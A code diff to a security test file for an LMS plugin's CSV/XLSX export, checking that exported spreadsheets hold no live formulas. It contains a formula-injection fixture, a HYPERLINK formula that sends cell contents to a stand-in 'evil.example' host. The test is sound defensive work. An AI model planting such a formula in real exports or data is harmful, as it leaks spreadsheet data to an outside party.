@@ -20,6 +20,7 @@ from lms_plugin.coordination.models import PeerHelper, School, TrainingCentre
 from lms_plugin.csv_export import SafeCsv, safe_cell
 from lms_plugin.db import db, utcnow
 from lms_plugin.grading.models import Grade
+from lms_plugin.tabular import XLSX_TYPE
 from tests.security.world import World, seed_world
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
@@ -97,7 +98,7 @@ def test_xlsx_export_holds_formulas_as_text(app: Flask, poisoned: World, name: s
         path + "?format=xlsx", base_url="https://tool.test"
     )
     assert response.status_code == 200, (path, response.status_code)
-    assert response.mimetype.endswith("spreadsheetml.sheet")
+    assert response.mimetype == XLSX_TYPE
     sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
     cells = [cell for row in sheet.iter_rows() for cell in row]
     assert not [c.coordinate for c in cells if c.data_type == "f"], f"{path}: formula cells"
